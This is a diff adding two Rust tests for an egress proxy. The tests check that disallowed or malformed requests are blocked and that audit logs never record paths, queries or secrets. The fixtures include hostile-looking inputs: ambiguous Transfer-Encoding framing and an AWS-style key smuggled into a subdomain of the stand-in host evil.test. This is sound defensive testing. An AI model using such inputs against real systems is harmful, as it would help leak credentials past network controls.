@@ -95,3 +95,76 @@ async fn a_compressed_response_cannot_carry_an_injected_credential_back() {
         "{blocks:?}"
     );
 }
+
+#[tokio::test]
+async fn audit_records_name_host_and_port_never_the_path_query_or_userinfo() {
+    let (up_addr, upstream) = spawn_http_upstream(Ipv4Addr::LOCALHOST).await;
+    let port = up_addr.port();
+    let h = start(Options {
+        grants: vec![format!("api.test:{port}")],
+        ..Options::default()
+    })
+    .await;
+    // Looks like user data or a secret, but matches no leak pattern.
+    let value = "qv7Yh3Kd9Lm2PqZ";
+    let auth = basic(&h.token);
+    let requests = [
+        // Not in the allowlist.
+        format!(
+            "GET http://other.test:{port}/users/{value}?token={value} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic {auth}\r\nX-Note: {value}\r\n\r\n"
+        ),
+        // HTTPS in absolute form.
+        format!(
+            "GET https://api.test/p?token={value} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic {auth}\r\n\r\n"
+        ),
+        // Userinfo in the URL.
+        format!(
+            "GET http://user:{value}@api.test:{port}/ HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic {auth}\r\n\r\n"
+        ),
+        // Ambiguous framing.
+        format!(
+            "POST http://api.test:{port}/p?token={value} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic {auth}\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"
+        ),
+        // A scheme the proxy does not forward.
+        format!(
+            "GET ftp://api.test/{value} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic {auth}\r\n\r\n"
+        ),
+    ];
+    for request in &requests {
+        let status = raw(h.addr, request.as_bytes()).await;
+        assert!(status == 400 || status == 403, "{status} for {request}");
+    }
+    assert_eq!(upstream.hits(), 0);
+    let blocks = h.audited("NETWORK_BLOCK");
+    assert_eq!(blocks.len(), requests.len(), "{blocks:?}");
+    assert_eq!(blocks[0]["resource"], format!("other.test:{port}"));
+    assert_eq!(blocks[1]["resource"], "api.test:443");
+    assert_eq!(blocks[2]["resource"], format!("api.test:{port}"));
+    let log = std::fs::read_to_string(&h.audit_path).unwrap();
+    assert!(!log.contains(value), "{log}");
+    assert!(!log.contains("token="), "{log}");
+}
+
+#[tokio::test]
+async fn a_secret_in_a_denied_host_name_is_not_written_to_the_audit_log() {
+    let (up_addr, upstream) = spawn_http_upstream(Ipv4Addr::LOCALHOST).await;
+    let h = start(Options {
+        grants: vec![format!("api.test:{}", up_addr.port())],
+        ..Options::default()
+    })
+    .await;
+    let aws = "AKIAIOSFODNN7EXAMPL3";
+    let url = format!(
+        "http://{}.evil.test:{}/",
+        aws.to_lowercase(),
+        up_addr.port()
+    );
+    let (status, text) = curl_via(&h, &url, &[]).await;
+    assert_eq!(status, 403, "{text}");
+    assert_eq!(upstream.hits(), 0);
+    assert_eq!(h.audited("NETWORK_BLOCK").len(), 1);
+    let log = std::fs::read_to_string(&h.audit_path)
+        .unwrap()
+        .to_lowercase();
+    assert!(!log.contains(&aws.to_lowercase()), "{log}");
+}
